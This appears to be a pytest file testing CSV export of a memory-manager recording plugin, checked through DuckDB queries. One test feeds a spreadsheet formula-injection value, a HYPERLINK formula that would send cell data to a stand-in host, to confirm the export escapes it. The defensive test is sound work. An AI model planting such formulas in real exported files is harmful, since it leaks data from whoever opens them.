"""A recording as tables, opened with common tools."""

import csv
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import duckdb
import pytest
from click.testing import CliRunner, Result
from recordings import SESSION, written

from mom_core import Decision, FieldSpec, Guest, Host, MomError, Report, Scope, Snapshot, Source, Unit
from mom_plugins_record.recording.command import record
from mom_plugins_record.recording.writer import files_of


def export(*arguments: object) -> Result:
    return CliRunner().invoke(record, ["export", *map(str, arguments)])


def opened(folder: Path) -> duckdb.DuckDBPyConnection:
    """Return the tables as views."""
    base = duckdb.connect()
    for name in ("host", "guests", "decisions", "outcomes"):
        base.read_csv(str(folder / f"{name}.csv")).create_view(name)
    return base


def guest_rows(reports: list[Report], field: str) -> list[tuple[str, Any]]:
    return [(guest.name, guest.fields.get(field)) for report in reports for guest in report.snapshot.guests.values()]


@pytest.mark.long
def test_duckdb_reads_the_tables(recording, reports, tmp_path):
    out = tmp_path / "out"
    done = export(recording, "-o", out)
    assert done.exit_code == 0, done.exception
    assert sorted(file.name for file in out.iterdir()) == [f"{name}.csv" for name in ("decisions", "guests", "host", "outcomes")]
    base = opened(out)
    for field in ("balloon_cur", "mem_usable"):  # the latter is unknown for some guests
        assert base.sql(f"select guest_name, {field}_kib from guests").fetchall() == guest_rows(reports, field)  # noqa: S608  # of our own names
    ((most,),) = base.sql("select max(mem_available_kib) from host").fetchall()
    assert most == max(float(report.snapshot.host.number("mem_available") or 0) for report in reports)
    evaluated = base.sql("select control, reason, value from decisions where stage = 'evaluation'").fetchall()
    assert evaluated == [(decision.control, decision.reason, decision.value) for report in reports for decision in report.decisions]
    assert base.sql("select distinct unit from decisions where control = 'balloon_target'").fetchall() == [("KiB",)]
    joined = base.sql("select o.status, o.after, d.reason from outcomes o join decisions d using (cycle, decision)").fetchall()
    outcomes = [outcome for report in reports for outcome in report.outcomes]
    assert sorted(joined) == sorted((o.status.value, o.after, o.decision.reason) for o in outcomes)
    ((begins,),) = base.sql("select epoch(min(time)::timestamptz) from host").fetchall()
    assert begins == pytest.approx(reports[0].time, abs=1e-3)


@pytest.mark.long
def test_documented_query_works(recording, reports, tmp_path, monkeypatch):
    export(recording, "-o", tmp_path / "friday")
    (query,) = re.findall(r"```sql\n(.*?)```", (Path(__file__).parents[2] / "docs/recordings.md").read_text(), re.DOTALL)
    monkeypatch.chdir(tmp_path)
    answer = duckdb.connect().sql(query.rstrip().rstrip(";")).project("guest_name, mib, reason").fetchall()  # times would need pytz
    given = [o for r in reports for o in r.outcomes if o.decision.control == "balloon_target" and o.decision.value > o.before]
    assert given
    assert [(name, mib) for name, mib, _ in answer] == [(o.decision.entity.name, (o.decision.value - o.before) / 1024) for o in given]
    assert all(why for _, _, why in answer)


def test_guests_and_times_are_chosen(recording, reports, tmp_path):
    name = next(o.decision.entity.name for r in reports for o in r.outcomes if o.decision.entity.scope is Scope.GUEST)
    since, until = "2026-01-01T00:01:40", "2026-01-01T00:03:40+00:00"
    done = export(recording, "--to", until, "--from", since, "--guest", f"{name[:-1]}?", "--guest", name, "-o", tmp_path / "o")
    assert done.exit_code == 0, done.exception
    chosen = [report for report in reports if 1_767_225_700 <= report.time <= 1_767_225_820]
    base = opened(tmp_path / "o")
    guests = base.sql("select distinct guest_name from guests").fetchall()
    assert (name,) in guests
    assert {one for (one,) in guests} == {g.name for r in reports for g in r.snapshot.guests.values() if g.name[:-1] == name[:-1]}
    ((cycles,),) = base.sql("select count(*) from host").fetchall()
    assert cycles == len(chosen)
    decided = base.sql("select distinct guest_name from decisions").fetchall()
    assert {one for (one,) in decided if one} <= {one for (one,) in guests}


def test_nothing_is_left_behind_and_nothing_is_overwritten(recording, tmp_path):
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "mine").write_text("mine")
    for output, arguments, message in (
        (tmp_path / "full", (), "is not empty"),
        (tmp_path / "none", ("--from", "2030-01-01"), f"has no cycle in that period (`mom record show {recording}` shows"),
        (tmp_path / "full" / "mine" / "x", (), "cannot write"),
        (tmp_path / "none", ("--guest", "nobody*"), "the recording has no guest named nobody* in that period"),
    ):
        done = export(recording, "-o", output, *arguments)
        assert isinstance(done.exception, MomError)
        assert message in str(done.exception)
    assert [file.name for file in tmp_path.iterdir()] == ["full"]
    assert [file.name for file in (tmp_path / "full").iterdir()] == ["mine"]


def test_a_damaged_cycle_is_left_out_and_told(recording, reports, tmp_path):
    (file,) = files_of(recording)
    content = bytearray(file.read_bytes())
    content[-20] ^= 1
    (tmp_path / "damaged.momrec").write_bytes(content)
    done = export(tmp_path / "damaged.momrec", "-o", tmp_path / "out")
    assert done.exit_code == 0
    assert "damaged" in done.stderr
    with (tmp_path / "out" / "host.csv").open() as table:
        assert [int(row["cycle"]) for row in csv.DictReader(table)] == [report.number for report in reports[:-1]]


def test_whole_numbers_stay_whole_in_csv(recording, reports, tmp_path):
    export(recording, "-o", tmp_path / "out")
    with (tmp_path / "out" / "guests.csv").open(newline="") as file:
        row = next(csv.DictReader(file))
    assert row["balloon_cur_kib"] == str(next(iter(reports[0].snapshot.guests.values())).fields["balloon_cur"])
    assert row["time"] == "2026-01-01T00:00:10.000000+00:00"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1,"x")', "\t=1"])
def test_what_a_spreadsheet_would_compute_is_text_in_csv(tmp_path, name):
    session = replace(SESSION, fields=tuple(FieldSpec(one, Unit.TEXT, Scope.GUEST, "") for one in (name, "time")))
    guest = Guest("id", name, {name: name, "time": "x"})
    one = Report(1, 5.0, "enforce", Snapshot(Host(name), {"id": guest}, 5.0, 5.0, 1),
                 (Decision(guest.entity, name, 1, name, Source(name)),), (), (), (), (), 0.1)  # fmt: skip
    written(tmp_path / "r", [one], session=session)
    done = export(tmp_path / "r", "-o", tmp_path / "out")
    assert done.exit_code == 0, done.exception
    for table in ("host", "guests", "decisions"):
        with (tmp_path / "out" / f"{table}.csv").open(newline="") as file:
            rows = [*csv.reader(file)]
        assert len(rows) == 2
        assert name not in {one for row in rows for one in row}
        assert f"'{name}" in rows[1]


def test_default_recording_follows_the_configuration(recording, tmp_path):
    config = tmp_path / "mom.yaml"
    config.write_text(f"state_directory: {tmp_path}/moved\nplugins: {{sim: {{}}, record: {{}}}}\n")
    (tmp_path / "moved").mkdir()
    (tmp_path / "moved/recording").symlink_to(recording)
    assert export("-c", config, "-o", tmp_path / "out").exit_code == 0
    named = CliRunner().invoke(record, ["show", str(recording), "--json"])
    found = CliRunner().invoke(record, ["show", "--json"], env={"MOM_CONFIG": str(config)})
    assert found.exit_code == 0
    assert json.loads(found.stdout)["cycles"] == json.loads(named.stdout)["cycles"] > 0
    config.write_text("plugins: {sim: {}}\n")
    with pytest.raises(MomError, match="does not enable the record plugin"):
        CliRunner().invoke(record, ["show", "-c", str(config)], catch_exceptions=False)
